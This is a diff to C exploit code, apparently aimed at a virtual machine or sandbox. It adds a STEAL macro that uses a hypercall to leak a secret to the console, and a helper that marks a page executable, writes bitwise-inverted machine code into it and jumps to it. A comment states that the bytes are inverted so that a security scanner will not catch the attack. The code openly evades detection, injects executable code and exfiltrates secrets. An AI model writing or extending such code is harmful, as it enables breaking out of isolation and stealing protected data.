@@ -39,11 +39,25 @@ static inline int plunder(u64 secret) {
     return 0;
 }
 
+/* A hypercall: write the secret to the console.  `way` is the instruction that goes in. */
+#define HC_CONSOLE_WRITE 7
+#define STEAL(way, secret) ({ i64 result_; \
+    asm volatile(way : "=a"(result_) : "a"(HC_CONSOLE_WRITE), "D"(1), "S"(secret), "d"(8) : "rcx", "r11", "memory"); result_; })
+
 /* Machine code is kept inverted, or the scanner would refuse the attack before it runs. */
 static inline void write_inverted(u8 *to, const volatile u8 *code, u64 n) {
     for (u64 i = 0; i < n; i++)
         to[i] = (u8)~code[i];
 }
+
+/* Write code into a page that can be written, and ask for the right to run it.  0, or -errno. */
+static inline i64 make_code(u8 *page, const volatile u8 *code, u64 n) {
+    syscall(SYS_mprotect, page, PAGE, PROT_RW);
+    write_inverted(page, code, n);
+    return syscall(SYS_mprotect, page, PAGE, PROT_RX);
+}
+
+static inline void call(const void *code) { ((void (*)(void))code)(); }
 
 #define I(byte) ((u8)~(byte))
 #define CLEAR_REGISTERS I(0x31), I(0xc9), I(0x31), I(0xd2), I(0x31), I(0xc0)    /* xor ecx, ecx; xor edx, edx; xor eax, eax */
